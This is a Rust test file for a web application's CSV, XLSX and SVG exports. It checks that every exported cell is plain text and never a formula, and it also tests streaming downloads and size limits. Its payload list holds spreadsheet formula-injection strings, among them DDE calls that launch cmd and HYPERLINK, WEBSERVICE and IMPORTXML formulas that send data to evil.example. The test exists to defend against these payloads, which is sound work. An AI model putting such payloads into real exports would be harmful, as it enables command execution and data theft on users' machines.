//! What is taken away: whole, typed, and never a formula.
use std::io::Cursor;
use std::pin::Pin;

use axum::body::{Body, HttpBody};
use axum::http::{Request, header};
use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use sea_orm::ConnectionTrait;
use tests::{Person, Reply, TestApp};
use tower::ServiceExt;

use super::size::{ask, open_round};
use super::{lines, number, round_of_2016};

/// What spreadsheets of this world have run.
const PAYLOADS: [&str; 21] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "=IMPORTXML(\"http://evil.example/\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=\"a\",\"b\"",
    "=1+1\r\n=2+2",
    "=1+1\";=2+2",
];

const EXPORTS: [&str; 4] =
    ["demand.csv", "demand.xlsx", "demand/nominations.csv", "demand/nominations.xlsx"];

/// The cells of a CSV as RFC 4180 has it, every cell quoted.
fn cells_of_csv(text: &str) -> Vec<String> {
    let (mut cells, mut rest) = (Vec::new(), text.trim_start_matches('\u{feff}'));
    while let Some(open) = rest.strip_prefix('"') {
        let (mut cell, mut at) = (String::new(), open);
        loop {
            let (before, after) = at.split_once('"').expect("a closing quote");
            cell.push_str(before);
            at = after;
            let Some(doubled) = at.strip_prefix('"') else { break };
            cell.push('"');
            at = doubled;
        }
        cells.push(cell);
        rest = at.strip_prefix(',').or_else(|| at.strip_prefix("\r\n")).expect("a separator");
    }
    assert!(rest.is_empty(), "{rest}");
    cells
}

fn book(reply: &Reply) -> Xlsx<Cursor<Vec<u8>>> {
    open_workbook_from_rs(Cursor::new(reply.body.to_vec())).expect("a workbook")
}

/// The texts of a workbook; fails where any cell of it is a formula.
fn texts_of_workbook(reply: &Reply) -> Vec<String> {
    let (mut book, mut texts) = (book(reply), Vec::new());
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("a sheet");
        assert_eq!(formulas.used_cells().count(), 0, "{name} has formulas");
        let sheet = book.worksheet_range(&name).expect("a sheet");
        texts.extend(sheet.used_cells().filter_map(|(.., cell)| match cell {
            Data::String(text) => Some(text.clone()),
            _ => None,
        }));
    }
    texts
}

async fn write_everywhere(app: &TestApp, payload: &str, number: usize) {
    let unique = format!("{payload}{number}");
    let run = async |sql: &str, values: Vec<sea_orm::Value>| app.execute(sql, values).await;
    let member = "update organisation set name = $1, subregion = $1 where code = 'FJ'";
    run(member, vec![payload.into()]).await;
    run("update course_type set name = $1 where code = 'liaison'", vec![payload.into()]).await;
    let words = "update course_nomination set justification = $1, language = $1, new_course = $1";
    run(words, vec![payload.into()]).await;
    run("update round set title = $1 where closed_at is not null", vec![unique.into()]).await;
    let code = "update course_listing set code = $1 where course_id = \
        (select course_id from course_nomination n join organisation o on o.id = n.member_id \
         where o.code = 'FJ' and course_id is not null order by course_id limit 1)";
    run(code, vec![payload.into()]).await;
}

#[tokio::test]
async fn no_cell_of_an_export_is_a_formula() {
    let app = TestApp::new().await;
    let rso = app.rso().await;
    let round = round_of_2016(&rso).await;
    for (number, payload) in PAYLOADS.into_iter().enumerate() {
        write_everywhere(&app, payload, number).await;
        for export in EXPORTS {
            let reply = rso.get(&format!("/{export}?{round}&level=all&state=FJ")).await;
            reply.is(200);
            let workbook = export.ends_with("xlsx");
            let texts =
                if workbook { texts_of_workbook(&reply) } else { cells_of_csv(&reply.text) };
            let signs = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
            for text in &texts {
                assert!(!text.starts_with(signs), "{export}: {text:?}");
            }
            let sign: String = payload.chars().take(1).collect();
            let told = texts.iter().filter(|text| text.starts_with(&format!("'{sign}"))).count();
            let fields = if export.contains("nominations") { 6 } else { 4 };
            assert!(told >= fields, "{export}, {payload:?}: {told} texts told it");
        }
    }
}

#[tokio::test]
async fn a_workbook_has_numbers_as_numbers_and_says_what_it_is() {
    let app = TestApp::new().await;
    let rso = app.rso().await;
    let round = round_of_2016(&rso).await;
    let choice = format!("{round}&level=all&quarter=q1&subregion=Melanesia");
    let reply = rso.get(&format!("/demand.xlsx?{choice}")).await;
    let kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    assert_eq!(reply.header("content-type"), Some(kind));
    let disposition = reply.header("content-disposition").expect("a file name");
    assert!(disposition.starts_with("attachment; filename=\"demand.xlsx\""));
    let mut read = book(&reply);
    assert_eq!(read.sheet_names(), ["Places", "Gaps", "List", "About"]);
    let list = read.worksheet_range("List").expect("a sheet");
    let csv = lines(&rso.get(&format!("/demand.csv?{choice}")).await.text);
    assert_eq!(list.height(), csv.len() + 1);
    for (row, line) in list.rows().skip(1).zip(&csv) {
        for (cell, text) in row.iter().zip(line).skip(6) {
            let Data::Float(figure) = cell else { panic!("{cell:?} is no number") };
            assert_eq!(figure.to_string(), *text);
        }
    }
    let matrix = read.worksheet_range("Places").expect("a sheet");
    let total = matrix.rows().next_back().and_then(<[Data]>::last).cloned();
    let places: i64 = csv.iter().map(|line| number(&line[6])).sum();
    assert_eq!(total.map(|total| total.to_string()), Some(places.to_string()));
    let about = texts_of_workbook(&reply);
    for words in ["Melanesia", "Q1", "All levels", "Read on"] {
        assert!(about.iter().any(|text| text == words), "{words} is not in {about:?}");
    }
    assert!(about.iter().any(|text| text.contains("multiplied by people")));
}

#[tokio::test]
async fn a_picture_of_the_heat_map_can_be_taken_away() {
    let app = TestApp::new().await;
    let fiji = app.focal_point("Fiji").await;
    let round = round_of_2016(&fiji).await;
    let picture = fiji.get(&format!("/demand.svg?{round}&level=all")).await;
    picture.is(200).says("<svg xmlns=").says("Fiji").does_not_say("Indonesia");
    assert_eq!(picture.header("content-type"), Some("image/svg+xml"));
    assert!(picture.header("content-security-policy").expect("a policy").contains("sandbox"));
}

/// Begins a download and reads its first piece only.
async fn begin(app: &TestApp, person: &Person, path: &str) -> (usize, Body) {
    let cookie = format!("__Host-rctm={}", person.cookie("__Host-rctm").expect("a session"));
    let request = Request::get(path)
        .header(header::HOST, "127.0.0.1:8080")
        .header(header::COOKIE, cookie)
        .body(Body::empty())
        .expect("a request");
    let response = app.router().oneshot(request).await.expect("a router never fails");
    assert_eq!(response.status().as_u16(), 200);
    let mut body = response.into_body();
    let frame = std::future::poll_fn(|context| Pin::new(&mut body).poll_frame(context)).await;
    let piece = frame.expect("a piece").expect("no fault").into_data().expect("data");
    (piece.len(), body)
}

#[tokio::test]
async fn a_long_table_comes_in_pieces_and_a_slow_reader_keeps_nothing_from_others() {
    let app = TestApp::new().await;
    let rso = app.rso().await;
    let round = open_round(&app).await;
    ask(&app, round, 20_000).await;
    let path = format!("/demand/nominations.csv?round={round}&level=all");
    let whole = rso.get(&path).await;
    assert_eq!(lines(&whole.text).len(), 20_000);
    let mut readers = Vec::new();
    for _ in 0..40 {
        let (piece, body) = begin(&app, &rso, &path).await;
        assert!(piece * 5 < whole.bytes, "{piece} of {} bytes at once", whole.bytes);
        readers.push(body);
    }
    rso.get("/demand").await.is(200);
    app.focal_point("Fiji").await.get("/my-state").await.is(200);
    assert!(app.app.db.execute_unprepared("select 1").await.is_ok());
    let mut last = readers.pop().expect("a reader");
    let mut more = 0;
    while let Some(frame) =
        std::future::poll_fn(|context| Pin::new(&mut last).poll_frame(context)).await
    {
        more += frame.expect("no fault").into_data().expect("data").len();
    }
    assert!(more > whole.bytes * 4 / 5, "who was slow gets the whole in the end");
}

#[tokio::test]
async fn what_is_too_long_for_a_workbook_is_refused_before_it_is_read() {
    let app = TestApp::new().await;
    let rso = app.rso().await;
    let round = open_round(&app).await;
    ask(&app, round, 100).await;
    let more = "update demand_cell set nominations = 20000 where round_id = $1";
    let path = format!("/demand/nominations.xlsx?round={round}&level=all");
    rso.get(&path).await.is(200);
    app.execute(more, vec![round.0.into()]).await;
    rso.get(&path).await.is(409).says("Take the CSV, or choose less.");
}
